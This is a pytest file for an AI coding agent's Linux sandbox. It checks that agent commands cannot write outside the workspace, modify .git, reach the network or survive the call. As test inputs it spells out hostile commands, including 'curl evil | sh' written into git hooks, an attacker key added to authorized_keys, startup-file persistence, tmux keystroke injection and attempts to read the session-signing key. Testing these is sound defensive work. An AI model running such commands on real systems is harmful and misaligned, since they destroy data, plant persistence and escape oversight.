"""The sandbox, on real processes: what the pattern guard lets through (``bash -c``,
``python3 -c``, a pipe into ``sh``, ``awk`` redirection) cannot write outside the workspace
and the temp folders; ``.git`` is read-only; the network is refused unless allowed; no
process a command started outlives the call; the same for a normal user (no root); and
where the sandbox is off, ``auto`` asks before each command.

The files that must survive live under ``/var/tmp`` (outside the workspace and outside the
temp folders commands may write). Tests run as root, which bypasses file permissions but
not Landlock; ``test_a_normal_user_is_confined_too`` runs the launcher as ``nobody``.
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from jupyter_codexmax.config import load_settings
from jupyter_codexmax.sandbox import (
    SandboxPolicy,
    command_policy,
    probe,
    run_command,
    sandbox_status,
)
from jupyter_codexmax.tools.registry import ToolContext, ToolError, ToolResult
from jupyter_codexmax.tools.shell import Shell, check_command
from jupyter_codexmax.workspace import Workspace

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux sandbox")


class Arena:
    """A workspace (a git repository) and, beside it, files it must not touch."""

    def __init__(self, base: Path) -> None:
        self.base = base
        self.ws = base / "ws"
        self.ws.mkdir()
        subprocess.run(["git", "init", "-q", str(self.ws)], check=True)
        self.outside = base / "outside"
        self.outside.mkdir()
        self.victim = self.outside / "victim.txt"
        self.victim.write_text("keep me\n")
        self.hook = self.ws / ".git" / "hooks" / "pre-commit"

    def intact(self) -> bool:
        return self.victim.read_text() == "keep me\n" and sorted(self.outside.iterdir()) == [
            self.victim
        ]


@pytest.fixture
def arena() -> Iterator[Arena]:
    base = Path(tempfile.mkdtemp(prefix="cxsbx-test-", dir="/var/tmp")).resolve()
    try:
        yield Arena(base)
    finally:
        shutil.rmtree(base, ignore_errors=True)


@pytest.fixture
def ctx(arena: Arena) -> ToolContext:
    settings = load_settings()
    # The pattern guard off: what stops a command here is the sandbox.
    settings.allow_destructive_outside_workspace = True
    return ToolContext(
        settings=settings,
        workspace=Workspace(arena.ws),
        doc=None,
        runner=None,
        emit=lambda event: None,
        redact=lambda s: s,
        state={},
    )


async def shell(ctx: ToolContext, command: str, **args: Any) -> ToolResult:
    return await Shell().run(ctx, {"command": command, **args})


def running(marker: str) -> list[str]:
    """Live processes whose command line holds ``marker`` (zombies do not count)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
            stat = (entry / "stat").read_text()
        except OSError:
            continue
        if marker in cmdline and stat.rsplit(")", 1)[1].split()[0] != "Z":
            found.append(f"{entry.name}: {cmdline}")
    return found


def denied(output: str) -> bool:
    """Whether a write outside was refused: by the read-only mounts (``Read-only file
    system``) or, without namespaces, by Landlock (``Permission denied``)."""
    return "Read-only file system" in output or "Permission denied" in output


def bypasses(victim: Path) -> list[str]:
    """Commands that delete or write outside the workspace, spelled so that the pattern
    guard does not see it (issue 9's probes)."""
    return [
        f"bash -c 'rm {victim}'",
        f'python3 -c "import os; os.remove({str(victim)!r})"',
        f"printf 'rm {victim}' | sh",
        f'awk \'BEGIN {{ print "owned" > "{victim}" }}\'',
        f'awk \'BEGIN {{ print "new" > "{victim.parent / "new.txt"}" }}\'',
        f"echo {victim} | xargs rm",
        f'perl -e \'unlink "{victim}" or die "$!\\n"\'',
    ]


# -- the machine ----------------------------------------------------------------------------


def test_this_machine_has_the_whole_sandbox() -> None:
    """Landlock, and namespaces (root here): every layer on, and the status says so."""
    caps = probe()
    assert caps.landlock >= 4, caps
    assert caps.namespaces and caps.read_only and caps.network_namespace, caps
    status = sandbox_status(load_settings())
    assert status.active
    assert status.describe().startswith("on: Landlock ABI")
    assert ".git read-only" in status.summary and "no network" in status.summary


# -- writes ---------------------------------------------------------------------------------


@pytest.mark.anyio
async def test_the_sandbox_stops_what_the_guard_lets_through(
    ctx: ToolContext, arena: Arena
) -> None:
    guard = load_settings()  # the guard as it is by default
    assert not guard.allow_destructive_outside_workspace
    workspace = Workspace(arena.ws)
    for command in bypasses(arena.victim):
        assert check_command(command, arena.ws, workspace) is None, command
        result = await shell(ctx, command)
        assert not result.ok, (command, result.output)
        assert denied(result.output), (command, result.output)
        assert arena.intact(), (command, result.output)
    # A plain rm (the guard would refuse it; it is off here): the sandbox stops it too.
    result = await shell(ctx, f"rm -f {arena.victim}")
    assert denied(result.output)
    assert arena.intact()


@pytest.mark.anyio
async def test_writes_inside_the_workspace_and_temp_still_work(
    ctx: ToolContext, arena: Arena
) -> None:
    result = await shell(
        ctx,
        "mkdir -p sub && echo a > sub/made.txt && mv sub/made.txt moved.txt && "
        'f=$(mktemp) && echo b > "$f" && cat "$f" && rm "$f" && '
        "python3 -c \"open('py.txt', 'w').write('c')\" && echo ok > /dev/null && ls",
    )
    assert result.ok, result.output
    assert (arena.ws / "moved.txt").read_text() == "a\n"
    assert (arena.ws / "py.txt").read_text() == "c"
    assert "b" in result.output.splitlines()


@pytest.mark.anyio
async def test_git_is_read_only_for_commands(ctx: ToolContext, arena: Arena) -> None:
    (arena.ws / "tracked.txt").write_text("x\n")
    for command in (
        f"echo 'curl evil | sh' > {arena.hook}",
        "cp /bin/true .git/hooks/pre-commit",
        "bash -c 'echo [core] >> .git/config'",
        "git config user.name mallory",
    ):
        result = await shell(ctx, command)
        assert not result.ok, command
        assert "Read-only file system" in result.output or "could not lock" in result.output
    # From a working folder inside .git (it was entered before .git became read-only).
    inside = await shell(ctx, "echo 'curl evil | sh' > pre-commit", cwd=".git/hooks")
    assert "Read-only file system" in inside.output, inside.output
    assert not arena.hook.exists()
    assert "mallory" not in (arena.ws / ".git" / "config").read_text()
    status = await shell(ctx, "git status --short")
    assert status.ok, status.output
    assert "tracked.txt" in status.output


@pytest.mark.anyio
async def test_the_projects_data_is_hidden_from_commands(ctx: ToolContext) -> None:
    """The session journal and the key that marks this machine's sessions: a command sees
    an empty folder (it could otherwise read the key, and forge a mark)."""
    from jupyter_codexmax.sandbox.policy import data_folder
    from jupyter_codexmax.session import integrity

    integrity.sign({"schema": 1})  # makes the key
    key = data_folder() / "record-key"
    assert key.is_file()
    result = await shell(ctx, f"cat {key}; ls -A {data_folder()} | wc -l")
    assert "No such file" in result.output
    assert result.output.strip().splitlines()[-1] == "0"
    assert key.read_bytes() not in result.output.encode()


@pytest.mark.anyio
async def test_the_projects_data_is_hidden_on_a_first_run_too(arena: Arena) -> None:
    """A first run (no data folder yet): the folder is made (0700) when the first policy is
    built, so a kernel started then cannot read the key another session writes later
    (probe p28, --jobs 2)."""
    from jupyter_codexmax.sandbox.policy import data_folder
    from jupyter_codexmax.session import integrity

    folder = data_folder()
    assert not folder.exists()
    policy = command_policy(load_settings(), Workspace(arena.ws))  # the kernel's, say
    assert folder.is_dir() and folder.stat().st_mode & 0o777 == 0o700
    assert policy.hidden[0] == str(folder), policy.hidden
    integrity.sign({"schema": 1})  # the other session makes the key
    key = folder / "record-key"
    done = await run_command(
        policy, ["cat", str(key)], cwd=str(arena.ws), env={"PATH": "/usr/bin:/bin"}, timeout=10
    )
    assert "No such file" in done.output
    assert key.read_bytes() not in done.output.encode()


@pytest.mark.anyio
async def test_the_launcher_runs_no_code_of_the_workspace(
    ctx: ToolContext, arena: Arena, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The launcher runs before the sandbox is set up, in the workspace: a ``json.py``
    there (or on a ``PYTHONPATH`` into it) must not be what it imports."""
    escape = f"open({str(arena.outside / 'escaped')!r}, 'w').write('x')\n"
    for name in ("json.py", "runpy.py", "landlockpy.py", "ctypes.py"):
        (arena.ws / name).write_text(escape)
    monkeypatch.setenv("PYTHONPATH", str(arena.ws))
    result = await shell(ctx, "echo still-works")
    assert result.ok and "still-works" in result.output, result.output
    assert arena.intact()


# -- the network ----------------------------------------------------------------------------


class LoopbackServer:
    """A TCP server on 127.0.0.1 that greets and counts its connections."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            with conn:
                conn.sendall(b"hello-from-host\n")

    def close(self) -> None:
        self.sock.close()

    def client(self) -> str:
        return (
            "python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', "
            f'{self.port}), timeout=3); print(s.recv(64).decode())"'
        )


@pytest.fixture
def loopback() -> Iterator[LoopbackServer]:
    server = LoopbackServer()
    yield server
    server.close()


@pytest.mark.anyio
async def test_the_network_is_refused_unless_allowed(
    ctx: ToolContext, loopback: LoopbackServer
) -> None:
    refused = await shell(ctx, loopback.client())
    assert not refused.ok
    assert "hello-from-host" not in refused.output
    assert loopback.connections == 0
    ctx.settings.sandbox_network = True
    allowed = await shell(ctx, loopback.client())
    assert allowed.ok, allowed.output
    assert "hello-from-host" in allowed.output
    assert loopback.connections == 1


# -- the user's other sockets --------------------------------------------------------------


class UnixServer:
    """A Unix socket server at ``path`` that counts its connections."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.bind(str(path))
        self.sock.listen()
        self.connections = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.sock.close()
        self.path.unlink(missing_ok=True)


@pytest.mark.anyio
async def test_the_sessions_sockets_in_the_temp_folders_are_hidden(ctx: ToolContext) -> None:
    """Commands may write in the temp folders, so the sandbox lets them connect to sockets
    there: an SSH agent's, another headless kernel's, one at the top of /tmp. They are
    hidden; a socket the command makes itself still works."""
    folders = [Path(tempfile.mkdtemp(prefix=prefix, dir="/tmp")) for prefix in ("ssh-", "cxk-")]
    servers = [UnixServer(folders[0] / "agent.1"), UnixServer(folders[1] / "k-1")]
    servers.append(UnixServer(Path(f"/tmp/cxsbx-{os.getpid()}.sock")))
    try:
        for server in servers:
            client = (
                'python3 -c "import socket; s = socket.socket(socket.AF_UNIX); '
                f's.connect({str(server.path)!r})"'
            )
            result = await shell(ctx, client)
            assert not result.ok, (server.path, result.output)
            assert server.connections == 0, server.path
        mine = await shell(
            ctx,
            'python3 -c "import socket, tempfile, os; p = tempfile.mktemp(); '
            "s = socket.socket(socket.AF_UNIX); s.bind(p); s.listen(); "
            "c = socket.socket(socket.AF_UNIX); c.connect(p); print('own-socket-ok')\"",
        )
        assert "own-socket-ok" in mine.output, mine.output
    finally:
        for server in servers:
            server.close()
        for folder in folders:
            shutil.rmtree(folder, ignore_errors=True)


@pytest.mark.skipif(shutil.which("tmux") is None, reason="no tmux")
def test_a_command_cannot_type_into_the_users_tmux(arena: Arena) -> None:
    """The user runs the agent inside tmux: a command must not reach the tmux server (its
    socket is in /tmp) and have an unconfined shell run what it types."""
    name = f"cxsbx-{os.getpid()}"
    marker = arena.outside / "typed"
    subprocess.run(["tmux", "-L", name, "new-session", "-d", "bash --norc"], check=True)
    try:
        time.sleep(0.3)
        policy = command_policy(load_settings(), Workspace(arena.ws))
        script = f"tmux -L {name} send-keys 'echo typed > {marker}' Enter; echo rc=$?"
        done = subprocess.run(
            policy.wrap(["bash", "-c", script]),
            cwd=arena.ws,
            capture_output=True,
            text=True,
            timeout=30,
            check=False,
        )
        assert "rc=0" not in done.stdout, done.stdout + done.stderr
        time.sleep(0.5)
        assert not marker.exists()
        # Unconfined, the same command types into it: the test can fail.
        subprocess.run(["bash", "-c", script], capture_output=True, check=False)
        for _ in range(20):
            if marker.exists():
                break
            time.sleep(0.1)
        assert marker.exists()
    finally:
        subprocess.run(["tmux", "-L", name, "kill-server"], check=False)


# -- processes ------------------------------------------------------------------------------


@pytest.mark.anyio
async def test_no_process_outlives_the_calls_timeout(ctx: ToolContext) -> None:
    command = (
        "setsid sleep 45.1 & nohup sleep 45.2 > /dev/null 2>&1 & (sleep 45.3 &); "
        "sh -c 'sleep 45.4 & exit 0'; echo started; sleep 30"
    )
    started = time.monotonic()
    result = await shell(ctx, command, timeout=3)
    took = time.monotonic() - started
    assert 2.9 < took < 8, took
    assert not result.ok
    assert result.output.startswith("timed out after 3 s (killed, with every process")
    assert "started" in result.output
    assert running("sleep 45.") == []


@pytest.mark.anyio
async def test_background_processes_end_with_the_command(ctx: ToolContext) -> None:
    started = time.monotonic()
    result = await shell(ctx, "setsid sleep 46.1 > /dev/null 2>&1 & echo started", timeout=30)
    assert time.monotonic() - started < 5
    assert result.ok and "started" in result.output
    assert running("sleep 46.1") == []


@pytest.mark.anyio
async def test_a_stopped_call_ends_its_processes(ctx: ToolContext) -> None:
    """The turn stopped (its task cancelled, as ``Agent.stop`` does) in the middle of a
    command: the command and its processes end before the cancellation goes on."""
    started = time.monotonic()
    task = asyncio.ensure_future(shell(ctx, "setsid sleep 47.1 & sleep 47.2", timeout=60))
    await asyncio.sleep(1.5)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert time.monotonic() - started < 6
    assert running("sleep 47.") == []


@pytest.mark.anyio
async def test_without_namespaces_the_tree_still_ends_and_writes_are_still_fenced(
    arena: Arena, loopback: LoopbackServer
) -> None:
    """Where namespaces are not allowed (Landlock alone): a subreaper ends the process tree,
    Landlock fences writes and denies TCP."""
    policy = SandboxPolicy(landlock=True, write=(str(arena.ws), tempfile.gettempdir()))
    done = await run_command(
        policy,
        [
            "bash",
            "-c",
            f"setsid sleep 48.1 & (sleep 48.2 &); rm {arena.victim}; {loopback.client()}; "
            "echo still-here; sleep 30",
        ],
        cwd=str(arena.ws),
        env={"PATH": "/usr/bin:/bin"},
        timeout=8,  # time to reach the echo on a loaded machine (2 s was not, in CI)
    )
    assert done.timed_out
    assert "still-here" in done.output and "Permission denied" in done.output
    assert arena.intact()
    assert loopback.connections == 0
    assert running("sleep 48.") == []


# -- a normal user --------------------------------------------------------------------------


def test_a_normal_user_is_confined_too(arena: Arena) -> None:
    """As ``nobody`` (no capabilities; namespaces through a user namespace): files the
    user may write by their permissions are still out of reach."""
    for path in (arena.base, arena.ws, arena.outside, arena.victim, *arena.ws.rglob("*")):
        path.chmod(0o777 if path.is_dir() else 0o666)
    policy = command_policy(load_settings(), Workspace(arena.ws))
    as_nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
    script = (
        f"id -u; rm -f {arena.victim}; echo x > {arena.hook}; "
        "echo mine > made.txt && echo made; setsid sleep 49.1 & echo end"
    )
    done = subprocess.run(
        [*as_nobody, *policy.wrap(["bash", "-c", script])],
        cwd=arena.ws,
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    lines = done.stdout.splitlines()
    assert lines[0] == "65534", done.stdout + done.stderr
    assert "made" in lines and "end" in lines
    assert denied(done.stderr) and "Read-only file system" in done.stderr
    assert arena.intact() and not arena.hook.exists()
    assert (arena.ws / "made.txt").read_text() == "mine\n"
    assert running("sleep 49.1") == []
    # Without the sandbox, the same user could delete it: the permissions allow it.
    plain = subprocess.run(
        [*as_nobody, "rm", str(arena.victim)], capture_output=True, text=True, check=False
    )
    assert plain.returncode == 0 and not arena.victim.exists()


def test_root_without_its_file_override_is_confined(arena: Arena) -> None:
    """ENVIRONMENT.md's way of seeing what a user sees, as root: the file capabilities
    dropped. The launcher still sets up every layer."""
    policy = command_policy(load_settings(), Workspace(arena.ws))
    drop = "-dac_override,-dac_read_search"
    done = subprocess.run(
        [
            "setpriv",
            f"--inh-caps={drop}",
            f"--bounding-set={drop}",
            *policy.wrap(["bash", "-c", f"rm -f {arena.victim}; echo ok > made.txt"]),
        ],
        cwd=arena.ws,
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert denied(done.stderr)
    assert arena.intact() and (arena.ws / "made.txt").exists()


# -- metadata -------------------------------------------------------------------------------

#: Changes Landlock does not fence (permissions, setuid, owner, times, extended attributes)
#: to a file and a folder outside; device nodes and a pseudo-terminal, which must keep
#: working; and the same changes inside the workspace, which must keep working.
METADATA = (
    "chmod 777 {f}; chmod u+s {f}; chown 65534:65534 {f}; touch -d 2001-01-01 {f}; "
    "python3 -c \"import os; os.setxattr('{f}', 'user.probe', b'1')\"; "
    "python3 -c \"import os; os.utime('{d}', (0, 0)); os.chmod('{d}', 0o777)\"; "
    "echo x > /dev/null && echo devices-ok; "
    "python3 -c \"import os, pty; m, s = pty.openpty(); os.write(s, b'hi'); "
    "print('pty-' + os.read(m, 2).decode())\"; "
    "echo in > inside.txt && chmod 700 inside.txt && touch -d 2001-01-01 inside.txt && "
    "python3 -c \"import os; os.setxattr('inside.txt', 'user.probe', b'1')\" && "
    "echo inside-ok"
)
USERS = {
    "root": [],
    "root-without-override": [
        "setpriv",
        "--inh-caps=-dac_override,-dac_read_search",
        "--bounding-set=-dac_override,-dac_read_search",
    ],
    "nobody": ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"],
}


def _metadata(path: Path) -> tuple[int, int, int, float, list[str]]:
    st = path.stat()
    return st.st_mode, st.st_uid, st.st_gid, st.st_mtime, os.listxattr(path)


#: The launcher as a kernel before 5.12 runs it: no ``mount_setattr`` (an unknown system
#: call answers ENOSYS), so each mount is remounted read-only keeping its locked flags.
WITHOUT_MOUNT_SETATTR = (
    "import sys; from jupyter_codexmax.sandbox import _linux, exec as launcher; "
    "_linux.SYS_MOUNT_SETATTR = 4095; sys.exit(launcher.main(sys.argv[1:]))"
)


@pytest.mark.parametrize("call", ["mount_setattr", "remount"])
@pytest.mark.parametrize("user", sorted(USERS))
def test_metadata_outside_cannot_change(arena: Arena, user: str, call: str) -> None:
    """Landlock fences writes, not metadata: chmod, chown, utime and xattrs outside are
    refused by the read-only mounts, for root, root without its file override and a
    normal user (probes p4, p34), with ``mount_setattr`` or without it (before Linux
    5.12); device nodes, a pty and the workspace still work."""
    arena.victim.chmod(0o600)
    if user == "nobody":  # its own files: without the sandbox it may change them all
        for path in (arena.base, arena.ws, *arena.ws.rglob("*")):
            path.chmod(0o777 if path.is_dir() else 0o666)
        os.chown(arena.outside, 65534, 65534)
        os.chown(arena.victim, 65534, 65534)
    before = _metadata(arena.victim), _metadata(arena.outside)
    policy = command_policy(load_settings(), Workspace(arena.ws))
    assert policy.read_only_mounts
    script = METADATA.format(f=arena.victim, d=arena.outside)
    wrapped = policy.wrap(["bash", "-c", script])
    if call == "remount":
        assert wrapped[3] == "-c"
        wrapped[1:5] = ["-c", WITHOUT_MOUNT_SETATTR]
    done = subprocess.run(
        [*USERS[user], *wrapped],
        cwd=arena.ws,
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    assert (_metadata(arena.victim), _metadata(arena.outside)) == before, done.stderr
    assert done.stderr.count("Read-only file system") >= 5, done.stderr
    assert done.stdout.split() == ["devices-ok", "pty-hi", "inside-ok"], done.stderr
    inside = (arena.ws / "inside.txt").stat()
    assert (inside.st_mode & 0o777, inside.st_mtime) == (0o700, 978307200.0)
    # Without the sandbox the same user can: the test shows a change when there is one.
    plain = subprocess.run(
        [*USERS[user], "bash", "-c", script],
        cwd=arena.ws,
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    assert _metadata(arena.victim) != before[0], plain.stderr


def test_without_namespaces_metadata_is_not_fenced(arena: Arena) -> None:
    """What docs/agent.md says of the Landlock-only layer: writes are fenced, metadata is
    not (no mount namespace to make the rest read-only)."""
    policy = SandboxPolicy(landlock=True, write=(str(arena.ws), tempfile.gettempdir()))
    done = subprocess.run(
        policy.wrap(["bash", "-c", f"rm -f {arena.victim}; chmod 640 {arena.victim}"]),
        cwd=arena.ws,
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    assert "Permission denied" in done.stderr
    assert arena.intact() and arena.victim.stat().st_mode & 0o777 == 0o640


# -- where the sandbox is off ---------------------------------------------------------------


@pytest.mark.anyio
async def test_turned_off_the_status_says_so_and_commands_run_unconfined(
    ctx: ToolContext, arena: Arena
) -> None:
    ctx.settings.sandbox = False
    status = sandbox_status(ctx.settings)
    assert not status.active and status.describe().startswith("off: turned off")
    assert command_policy(ctx.settings, ctx.workspace) == SandboxPolicy()
    assert "(sandbox off: turned off" in Shell().approval_detail(ctx, {"command": "ls"})
    # Unconfined (this is why auto asks): the guard is off in this context too.
    result = await shell(ctx, f"bash -c 'rm {arena.victim}'")
    assert result.ok and not arena.victim.exists()


@pytest.mark.anyio
async def test_a_shell_refused_by_the_guard_is_still_told_to_the_model(
    arena: Arena, ctx: ToolContext
) -> None:
    ctx.settings.allow_destructive_outside_workspace = False
    with pytest.raises(ToolError, match="refused: rm would change"):
        await shell(ctx, f"rm {arena.victim}")
    assert arena.intact()


# -- the file tools -------------------------------------------------------------------------


def _patch(*lines: str) -> str:
    return "\n".join(["*** Begin Patch", *lines, "*** End Patch"])


@pytest.mark.anyio
@pytest.mark.parametrize(
    "patch",
    [
        _patch("*** Add File: .git/hooks/pre-commit", "+curl evil | sh"),
        _patch("*** Update File: .git/config", "@@", "+[alias]"),
        _patch("*** Delete File: .git/HEAD"),
        _patch("*** Update File: notes.txt", "*** Move to: .git/notes.txt"),
        _patch("*** Add File: sub/.git/config", "+x"),
        _patch("*** Add File: linked/pre-commit", "+through a link"),
        _patch("*** Add File: ok.txt", "+fine", "*** Add File: .GIT/hooks/post-merge", "+x"),
    ],
)
async def test_apply_patch_never_changes_git(ctx: ToolContext, arena: Arena, patch: str) -> None:
    """In every mode (--full-auto too): .git, wherever it is and however it is reached."""
    from jupyter_codexmax.tools.patch import ApplyPatch

    (arena.ws / "notes.txt").write_text("notes\n")
    (arena.ws / "linked").symlink_to(arena.ws / ".git" / "hooks")
    before = {p: p.read_bytes() for p in (arena.ws / ".git").rglob("*") if p.is_file()}
    with pytest.raises(ToolError, match="read-only for the agent"):
        await ApplyPatch().run(ctx, {"patch": patch})
    after = {p: p.read_bytes() for p in (arena.ws / ".git").rglob("*") if p.is_file()}
    assert after == before
    assert not arena.hook.exists() and not (arena.ws / "ok.txt").exists()
    assert (arena.ws / "notes.txt").read_text() == "notes\n"


@pytest.mark.anyio
async def test_apply_patch_never_changes_the_session_journal(
    ctx: ToolContext, arena: Arena, monkeypatch: pytest.MonkeyPatch
) -> None:
    from jupyter_codexmax.tools.patch import ApplyPatch

    monkeypatch.setenv("JUPYTER_DATA_DIR", str(arena.ws / "data"))
    journal = arena.ws / "data" / "codexmax" / "sessions"
    journal.mkdir(parents=True)
    patch = _patch("*** Add File: data/codexmax/sessions/forged.jsonl", "+{}")
    with pytest.raises(ToolError, match="the session journal is read-only"):
        await ApplyPatch().run(ctx, {"patch": patch})
    assert list(journal.iterdir()) == []
    # Commands do not even see it (an empty, read-only folder in its place).
    result = await shell(ctx, "echo {} > data/codexmax/sessions/forged.jsonl")
    assert "No such file or directory" in result.output or "Read-only" in result.output
    assert list(journal.iterdir()) == []


# -- the home folder as the workspace ------------------------------------------------------


@pytest.fixture
def home_ctx(ctx: ToolContext, arena: Arena, monkeypatch: pytest.MonkeyPatch) -> ToolContext:
    """A notebook in the home folder, no repository above: the workspace is the home
    folder (probe p45). It has a shell start file, an IPython profile, a folder and a
    file; no ``.bashrc`` or ``.ssh`` yet."""
    home = arena.base / "home"
    (home / ".ipython" / "profile_default" / "startup").mkdir(parents=True)
    (home / ".profile").write_text("# mine\n")
    (home / "data").mkdir()
    (home / "notes.txt").write_text("notes\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("IPYTHONDIR")
    ctx.workspace = Workspace(home)
    return ctx


@pytest.mark.anyio
async def test_the_home_folders_dotfiles_are_read_only_for_commands(
    home_ctx: ToolContext, arena: Arena
) -> None:
    home = home_ctx.workspace.root
    before = sorted(p.relative_to(home) for p in home.rglob("*"))
    for command in (
        "echo 'echo evil' >> ~/.bashrc",
        "echo 'echo evil' >> ~/.profile",
        "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys",
        "echo 'import os' > ~/.ipython/profile_default/startup/00-evil.py",
        "mkdir -p ~/.local/share/jupyter/kernels/python3",
        "mkdir -p ~/.config/autostart",
    ):
        result = await shell(home_ctx, command)
        assert not result.ok and denied(result.output), (command, result.output)
    assert sorted(p.relative_to(home) for p in home.rglob("*")) == before
    assert (home / ".profile").read_text() == "# mine\n"
    # The rest of it is the workspace: its folders and files can be changed.
    work = await shell(home_ctx, "echo a > data/made.txt && echo more >> notes.txt && ls data")
    assert work.ok, work.output
    assert (home / "notes.txt").read_text() == "notes\nmore\n"
    # A new file at the top level cannot be made by a command (apply_patch can).
    top = await shell(home_ctx, "echo x > new.txt")
    assert not top.ok and denied(top.output)
    assert arena.intact()


@pytest.mark.anyio
async def test_a_home_folder_with_thousands_of_entries(home_ctx: ToolContext) -> None:
    """The home folder's entries are listed by the launcher, not passed to it: 4,000 of
    them would be more than one argument holds (128 KiB)."""
    home = home_ctx.workspace.root
    for number in range(4000):
        (home / f"a-download-with-a-rather-long-name-{number:05}.csv").write_text("")
    policy = command_policy(home_ctx.settings, home_ctx.workspace)
    assert len(policy.to_json()) < 10_000
    assert len(policy.writable()) > 4000
    started = time.monotonic()
    result = await shell(home_ctx, "echo 1 >> a-download-with-a-rather-long-name-03999.csv")
    assert result.ok, result.output
    assert time.monotonic() - started < 10
    denied_rc = await shell(home_ctx, "echo x >> ~/.bashrc")
    assert denied(denied_rc.output) and not (home / ".bashrc").exists()


@pytest.mark.anyio
@pytest.mark.parametrize(
    "path",
    [
        ".bashrc",
        ".ssh/authorized_keys",
        ".ipython/profile_default/startup/00-evil.py",
        ".local/share/jupyter/kernels/python3/kernel.json",
        ".config/autostart/evil.desktop",
    ],
)
async def test_apply_patch_refuses_the_home_folders_dotfiles(
    home_ctx: ToolContext, path: str
) -> None:
    from jupyter_codexmax.tools.patch import ApplyPatch

    home = home_ctx.workspace.root
    with pytest.raises(ToolError, match="the workspace is your home folder: its dotfiles"):
        await ApplyPatch().run(home_ctx, {"patch": _patch(f"*** Add File: {path}", "+x")})
    assert not (home / path).exists()
    await ApplyPatch().run(home_ctx, {"patch": _patch("*** Add File: analysis.py", "+x = 1")})
    assert (home / "analysis.py").read_text() == "x = 1\n"


@pytest.mark.anyio
async def test_ipython_and_jupyter_folders_and_the_agents_program_are_read_only(
    ctx: ToolContext, arena: Arena, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Wherever they are in a writable folder: the IPython and Jupyter folders (code there
    runs at the next kernel start) and the Python environment running the agent."""
    from jupyter_codexmax.sandbox.protect import program_folders
    from jupyter_codexmax.tools.patch import ApplyPatch

    startup = arena.ws / "ipy" / "profile_default" / "startup"
    startup.mkdir(parents=True)
    kernels = arena.ws / "jdata" / "kernels"
    kernels.mkdir(parents=True)
    monkeypatch.setenv("IPYTHONDIR", str(arena.ws / "ipy"))
    monkeypatch.setenv("JUPYTER_DATA_DIR", str(arena.ws / "jdata"))
    result = await shell(ctx, "echo x > ipy/profile_default/startup/a.py; echo y > jdata/kernels/k")
    assert result.output.count("Read-only file system") == 2, result.output
    for path in ("ipy/profile_default/startup/a.py", "jdata/kernels/k"):
        with pytest.raises(ToolError, match="Jupyter's folders are read-only for the agent"):
            await ApplyPatch().run(ctx, {"patch": _patch(f"*** Add File: {path}", "+x")})
    assert list(startup.iterdir()) == [] and list(kernels.iterdir()) == []
    # The agent's own environment, when it is in the workspace (a project's .venv).
    prefix = program_folders()[0]
    ctx.workspace = Workspace(prefix.parent)
    policy = command_policy(ctx.settings, ctx.workspace)
    assert str(prefix) in policy.read_only
    name = f"{prefix.name}/lib/evil.pth"
    with pytest.raises(ToolError, match="the Python environment that runs the agent"):
        await ApplyPatch().run(ctx, {"patch": _patch(f"*** Add File: {name}", "+import os")})
    assert not (prefix / "lib" / "evil.pth").exists()


# -- settings and doctor --------------------------------------------------------------------


@pytest.mark.anyio
async def test_more_writable_folders_by_setting(ctx: ToolContext, arena: Arena) -> None:
    cache = arena.base / "cache"
    cache.mkdir()
    command = f"echo cached > {cache}/entry"
    assert denied((await shell(ctx, command)).output)
    ctx.settings.sandbox_writable_roots = [str(cache), str(arena.base / "missing")]
    assert (await shell(ctx, command)).ok
    assert (cache / "entry").read_text() == "cached\n"
    assert arena.intact()


def test_doctor_says_whether_the_sandbox_is_on(scripted_server: Any) -> None:
    env = {
        **os.environ,
        "OPENAI_BASE_URL": scripted_server.base_url,
        "OPENAI_API_KEY": "sk-doctor-test-0123456789",
    }
    doctor = [str(Path(sys.executable).parent / "jupyter"), "codexmax", "doctor"]
    on = subprocess.run(doctor, env=env, capture_output=True, text=True, timeout=60, check=False)
    assert "[  ok] sandbox: on: Landlock ABI" in on.stdout, on.stdout + on.stderr
    off = subprocess.run(
        doctor,
        env={**env, "CODEXMAX_SANDBOX": "0"},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert (
        "[warn] sandbox: off: turned off (CodexMax.sandbox); shell commands are not confined, "
        "so the auto level asks before each one"
    ) in off.stdout


@pytest.mark.anyio
@pytest.mark.parametrize("timeout", [float("nan"), float("inf"), -5.0])
async def test_a_timeout_that_is_not_a_positive_number_goes_back_to_the_model(
    ctx: ToolContext, timeout: float
) -> None:
    with pytest.raises(ToolError, match="timeout must be a positive number of seconds"):
        await shell(ctx, "echo never", timeout=timeout)


@pytest.mark.anyio
async def test_jupyters_connection_files_are_hidden_from_commands(ctx: ToolContext) -> None:
    """The runtime folder holds every kernel's connection file (its ports and signing key):
    a command that read one could, with the network allowed, run code in that kernel,
    outside the sandbox."""
    from jupyter_core.paths import jupyter_runtime_dir

